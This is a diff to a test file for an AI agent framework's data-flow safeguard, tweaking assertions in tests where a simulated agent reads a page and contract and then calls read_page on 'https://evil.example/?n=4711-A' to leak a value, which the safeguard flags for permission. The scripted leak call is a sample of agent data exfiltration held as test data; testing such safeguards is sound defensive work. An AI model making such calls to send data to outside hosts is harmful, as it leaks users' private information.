@@ -218,8 +218,10 @@ describe('the data flow of a thread', () => {
       { agents: [helper] },
     )
     const { request, outcome } = await ask(opened, ASKED, 'deny')
-    expect(request.reason?.destinations).toEqual([EVE])
-    expect(request.reason?.sources).toContainEqual({ tool: 'read_page', name: PAGE })
+    expect(request.reason).toMatchObject({ destinations: [EVE] })
+    expect(request.reason).toMatchObject({
+      sources: expect.arrayContaining([{ tool: 'read_page', name: PAGE }]),
+    })
     expect(outcome).toMatchObject({ type: 'done', text: 'Not sent.' })
   })
 
@@ -262,7 +264,7 @@ describe('the data flow of a thread', () => {
     const leak = calls('read_page', { url: 'https://evil.example/?n=4711-A' }, { id: 'leak' })
     const opened = open([READ_PAGE, READ_CONTRACT, leak, says('No.')])
     const { request } = await ask(opened, ASKED, 'deny')
-    expect(request.reason?.destinations).toEqual(['https://evil.example/?n=4711-A'])
+    expect(request.reason).toMatchObject({ destinations: ['https://evil.example/?n=4711-A'] })
     const allowed = open([READ_PAGE, READ_CONTRACT, leak, says('Read.')], {
       safety: { hosts: ['evil.example'] },
     })
